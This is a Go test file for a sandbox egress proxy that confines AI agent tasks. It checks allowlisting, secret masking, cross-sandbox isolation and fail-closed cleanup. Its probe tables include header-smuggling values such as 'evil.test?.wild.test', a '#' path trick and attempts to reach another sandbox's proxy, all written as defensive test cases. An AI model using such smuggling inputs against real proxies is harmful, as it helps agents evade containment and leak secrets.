		// 4.-6.
		{"http", "POST", "api.sandbox.test", "/v1/plain", true},
		{"http", "TRACE", "api.sandbox.test", "/v1/messages", false},
		{"http", "TRACE", "x.wild.test", "/trace", false},
		{"http", "POST", "api.sandbox.test", "/v1/foreign-key", true},
		{"http", "POST", "api.sandbox.test", "/v1/foreign-auth", true},
		// 7. (unheld addresses on the conversation subnet are never
		// routed to the proxy: unreachable, so not logged)
		{"tcp", "", proxyPort, "", false},
	} {
		if find(w.kind, w.method, w.host, w.path, w.allowed) == nil {
			t.Errorf("network log has no %s %s %s%s allowed=%v entry", w.kind, w.method, w.host, w.path, w.allowed)
		}
	}
	// Allowed requests: what was swapped, withheld or stripped, by name,
	// and the address actually dialled (the test host's, never evil.test's
	// or anyone else's).
	for _, w := range []struct {
		method, host, path, upstream     string
		swapped, withheld, stripped, why string
	}{
		{"POST", "api.sandbox.test", "/v1/messages", ip + ":443", "SECRET_TOKEN", "", "", ""},
		{"GET", "x.wild.test", "/ok", ip + ":443", "SECRET_TOKEN", "", "", ""},
		{"POST", "api.sandbox.test", "/repos/o/r/issues", ip + ":443", "SECRET_TOKEN", "", "", ""},
		{"POST", "api.sandbox.test", "/v1/h2c", ip + ":80", "", "", "", "upgrade to h2c dropped"},
		{"POST", "api.sandbox.test", "/v1/plain", ip + ":80", "", "SECRET_TOKEN", "", ""},
		{"POST", "api.sandbox.test", "/v1/foreign-key", ip + ":443", "", "", "X-Api-Key", ""},
		{"POST", "api.sandbox.test", "/v1/foreign-auth", ip + ":443", "", "", "Authorization", ""},
		{"GET", "other.test", "/collect", ip + ":443", "", "", "", ""},
	} {
		l := find("http", w.method, w.host, w.path, true)
		if l == nil {
			continue // reported above
		}
		if l.Upstream != w.upstream || strings.Join(l.Swapped, ",") != w.swapped || strings.Join(l.Withheld, ",") != w.withheld ||
			strings.Join(l.Stripped, ",") != w.stripped || !strings.Contains(l.Reason, w.why) {
			t.Errorf("log line of %s %s%s: %+v, want upstream %s, swapped [%s], withheld [%s], stripped [%s], reason with %q",
				w.method, w.host, w.path, *l, w.upstream, w.swapped, w.withheld, w.stripped, w.why)
		}
	}
	for _, w := range []struct{ method, host, path, why string }{
		{"POST", "api.sandbox.test", "/repos/o/r/git/refs#/issues", "'#'"},
		{"GET", "other.test", "/socket", "websocket not enabled"},
		{"TRACE", "api.sandbox.test", "/v1/messages", "TRACE is not allowed"},
		{"TRACE", "x.wild.test", "/trace", "TRACE is not allowed"},
		{"GET", "evil.test?.wild.test", "/x", "invalid Host header"},
	} {
		if l := find("http", w.method, w.host, w.path, false); l != nil && (!strings.Contains(l.Reason, w.why) || l.Upstream != "") {
			t.Errorf("log line of %s %s%s: %+v, want reason with %q and nothing dialled", w.method, w.host, w.path, *l, w.why)
		}
	}
	if t.Failed() || os.Getenv("AIRUT_PROBE_VERBOSE") != "" {
		t.Logf("probe results: %+v", got)
		t.Logf("upstream received: %q", reqs)
		t.Logf("network log:\n%s", logData)
	}
}

// describe names a secret value in a failure message without printing it.
func describe(v string, e *env) string {
	v = strings.ReplaceAll(v, e.real, "<real value>")
	return strings.ReplaceAll(v, e.surrogate, "<surrogate>")
}

// convNet is the conversation network as podman records it.
type convNet struct {
	subnet *net.IPNet
	// gateway is the host's address on the network ("" when the host
	// has none: an internal network without DNS gets no gateway).
	gateway string
	// bridge is the host's interface of the network.
	bridge string
}

func inspectConvNet(t *testing.T, e *env) convNet {
	t.Helper()
	out, err := exec.Command("podman", "network", "inspect", e.network).Output()
	if err != nil {
		t.Fatalf("podman network inspect %s: %v", e.network, err)
	}
	var nets []struct {
		Interface string `json:"network_interface"`
		Subnets   []struct {
			Subnet  string `json:"subnet"`
			Gateway string `json:"gateway"`
		} `json:"subnets"`
	}
	if err := json.Unmarshal(out, &nets); err != nil || len(nets) != 1 || len(nets[0].Subnets) != 1 {
		t.Fatalf("podman network inspect %s: %v\n%s", e.network, err, out)
	}
	_, subnet, err := net.ParseCIDR(nets[0].Subnets[0].Subnet)
	if err != nil || !subnet.Contains(net.ParseIP(e.proxyIP)) {
		t.Fatalf("conversation subnet %q does not hold the proxy %s (%v)", nets[0].Subnets[0].Subnet, e.proxyIP, err)
	}
	return convNet{subnet: subnet, gateway: nets[0].Subnets[0].Gateway, bridge: nets[0].Interface}
}

// nth is the subnet's address with host number h.
func (n convNet) nth(h byte) string {
	a := slices.Clone(n.subnet.IP.To4())
	a[3] = h
	return a.String()
}

// hostAddrs lists the addresses the host (this test's namespace) holds
// on iface ("" for every interface).
func hostAddrs(t *testing.T, iface string) []net.IP {
	t.Helper()
	var addrs []net.Addr
	var err error
	if iface == "" {
		addrs, err = net.InterfaceAddrs()
	} else {
		var ifi *net.Interface
		if ifi, err = net.InterfaceByName(iface); err == nil {
			addrs, err = ifi.Addrs()
		}
	}
	if err != nil {
		t.Fatalf("host addresses: %v", err)
	}
	var ips []net.IP
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok {
			ips = append(ips, ipn.IP)
		}
	}
	return ips
}

// listenBridgeLinkLocal opens a listener on the host's IPv6 link-local
// address on the conversation network's bridge (reachable from that
// network only), waiting out duplicate address detection. It counts the
// connections accepted. ok is false when the bridge has no such address.
func listenBridgeLinkLocal(t *testing.T, n convNet) (addr string, accepted *atomic.Int64, ok bool) {
	t.Helper()
	accepted = &atomic.Int64{}
	var ln net.Listener
	var err error
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		var ll net.IP
		for _, ip := range hostAddrs(t, n.bridge) {
			if ip.To4() == nil && ip.IsLinkLocalUnicast() {
				ll = ip
			}
		}
		if ll != nil {
			// a tentative address (DAD not done) cannot be bound yet
			if ln, err = net.Listen("tcp6", net.JoinHostPort(ll.String()+"%"+n.bridge, "0")); err == nil {
				addr = net.JoinHostPort(ll.String(), fmt.Sprint(ln.Addr().(*net.TCPAddr).Port))
				break
			}
		}
		if time.Now().After(deadline) {
			if ll != nil {
				t.Fatalf("listen on the bridge's link-local address %s%%%s: %v", ll, n.bridge, err)
			}
			return "", accepted, false
		}
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Write([]byte("host reached\n"))
			c.Close()
		}
	}()
	return addr, accepted, true
}

// Two tasks, each in a sandbox of its own, share nothing: an agent
// aiming at the other task's proxy lands on its own proxy and is refused
// there, and the other proxy never hears of it.
func TestSandboxesAreIsolated(t *testing.T) {
	c := connect(t)
	a := start(t, c, allowlistYAML)
	b := start(t, c, allowlistYAML)
	got := a.probe(t, []map[string]any{
		httpCase("other-proxy-http", "GET", "http://"+b.proxyIP+"/"),
		{"name": "other-proxy-dns", "kind": "dns", "qtype": "A", "qname": "via-other.test", "server": b.proxyIP + ":53"},
		{"name": "other-proxy-raw", "kind": "tcp", "server": b.proxyIP + ":8080"},
	})
	if r := got["other-proxy-http"]; r.Status != http.StatusForbidden {
		t.Errorf("other-proxy-http: %+v, want the own proxy's 403", r)
	}
	if r := got["other-proxy-raw"]; !strings.Contains(r.Body, "raw TCP to "+b.proxyIP+":8080 is blocked") {
		t.Errorf("other-proxy-raw: %+v, want the own proxy's refusal", r)
	}
	if lines := b.log(t); len(lines) != 0 {
		t.Errorf("the other conversation's proxy logged %d lines: %+v", len(lines), lines)
	}
	found, rawFound := false, false
	for _, l := range a.log(t) {
		if l.Kind == "http" && l.Host == b.proxyIP && !l.Allowed {
			found = true
		}
		if l.Kind == "tcp" && l.Host == b.proxyIP+":8080" {
			rawFound = true
		}
	}
	if !found || !rawFound {
		t.Errorf("own network log lacks the refused request (%v) or raw connection (%v) to %s", found, rawFound, b.proxyIP)
	}
}

// Fail closed, through the package: a task it cannot run is refused by
// NewTask with an error saying why (wrapping ErrInvalidTask when the
// spec is at fault), and nothing is left behind: no container, no
// network of the task's name, no proxy files under StateDir/tasks/<id>
// (they hold the real secret value), nothing RemoveLabelled would find,
// and the ID free for the next try. Start's own failures (the proxy
// refusing what it is given, a missing proxy image) are tested in
// internal/sandbox.
func TestNewTaskFailsClosed(t *testing.T) {
	c := connect(t)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	egress := "airut-test-egress-" + randHex(4)
	t.Cleanup(func() { c.RemoveNetwork(context.Background(), egress) })
	dir := t.TempDir()
	// A proxy binary that is no program: its container fails at exec.
	// The probe is a program, but not the proxy: it exits at once (it
	// reads its cases from stdin, and there are none). Either way the
	// proxy never says it is ready. An upstream resolver that is no
	// address: Podman refuses to start the proxy's container at all.
	notAProgram := filepath.Join(dir, "not-a-program")
	if err := os.WriteFile(notAProgram, []byte("this is not a program\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	missing := filepath.Join(dir, "no-such-proxy")
	tests := []struct {
		name        string
		proxyBinary string
		upstreamDNS string
		allowlist   string
		invalid     bool // the error wraps sandbox.ErrInvalidTask
		wantErr     string
	}{
		{"broken allowlist", "", "", "domains: [", true, "allowlist"},
		{"unknown allowlist key", "", "", "domain: [x.test]\n", true, "domain"},
		{"missing proxy binary", missing, "", allowlistYAML, false, missing},
		{"proxy is no program", notAProgram, "", allowlistYAML, false, "proxy exited with code"},
		{"proxy exits before ready", filepath.Join(binDir, "probe"), "", allowlistYAML, false, "proxy exited with code 2 before it was ready"},
		{"proxy cannot start", "", "not-an-address", allowlistYAML, false, "start proxy"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			run := randHex(4)
			id := "f" + run
			state := filepath.Join(t.TempDir(), "state")
			sb, err := sandbox.New(ctx, sandbox.Options{
				StateDir: state, StartPodmanService: true, EgressNetwork: egress, ProxyBinary: tc.proxyBinary,
				UpstreamDNS: tc.upstreamDNS,
				Labels:      map[string]string{"airut.test.run": run},
			})
			if err != nil {
				t.Fatalf("sandbox.New: %v", err)
			}
			defer sb.Close()
			if tc.proxyBinary != "" && tc.proxyBinary != missing {
				// The proxy image made of a test binary goes with the test.
				if h, err := sandbox.Hashes(sandbox.ImageSpec{Base: baseImage}, tc.proxyBinary); err == nil {
					t.Cleanup(func() { exec.Command("podman", "rmi", "-f", "localhost/airut-proxy:"+h.Proxy).Run() })
				}
			}
			real := "sk-ant-api03-" + randHex(20)
			spec := sandbox.TaskSpec{
				ID: id, Dir: t.TempDir(), Image: baseImage, Allowlist: []byte(tc.allowlist),
				MaskedSecrets: []proxy.Secret{{Name: "SECRET_TOKEN", Value: real, Scopes: secretScopes, Headers: []string{"Authorization"}}},
			}
			for try := 1; try <= 2; try++ {
				task, err := sb.NewTask(ctx, spec)
				if err == nil {
					task.Close(ctx)
					t.Fatalf("try %d: NewTask succeeded", try)
				}
				t.Logf("try %d: %v", try, err)
				if errors.Is(err, sandbox.ErrInvalidTask) != tc.invalid {
					t.Errorf("try %d: error %q: wraps ErrInvalidTask %v, want %v", try, err, !tc.invalid, tc.invalid)
				}
				if !strings.Contains(err.Error(), tc.wantErr) {
					t.Errorf("try %d: error %q does not name %q", try, err, tc.wantErr)
				}
				// The second try fails for the same reason: the first
				// left the ID free.
				if strings.Contains(err.Error(), "already running") {
					t.Errorf("try %d: error %q: the failed task still holds its ID", try, err)
				}
				if ok, err := c.NetworkExists(ctx, sandbox.DefaultPrefix+"-conv-"+id); err != nil || ok {
					t.Errorf("try %d: network %s-conv-%s left behind (%v)", try, sandbox.DefaultPrefix, id, err)
				}
				for _, name := range []string{sandbox.DefaultPrefix + "-proxy-" + id, sandbox.DefaultPrefix + "-" + id} {
					if running, _, err := c.Running(ctx, name); err == nil || running {
						t.Errorf("try %d: container %s left behind", try, name)
					}
				}
				if _, err := os.Stat(filepath.Join(state, "tasks", id)); !os.IsNotExist(err) {
					t.Errorf("try %d: proxy files (with the secrets) left behind: %v", try, err)
				}
				filepath.WalkDir(state, func(p string, d os.DirEntry, err error) error {
					if err == nil && d.Type().IsRegular() {
						if data, err := os.ReadFile(p); err == nil && bytes.Contains(data, []byte(real)) {
							t.Errorf("try %d: %s holds the real secret value", try, p)
						}
					}
					return nil
				})
				containers, networks, err := sb.RemoveLabelled(ctx, "airut.test.run", run)
				if err != nil || len(containers) != 0 || len(networks) != 0 {
					t.Errorf("try %d: left behind with the sandbox's labels: containers %v, networks %v (%v)", try, containers, networks, err)
				}
			}
		})
	}
}
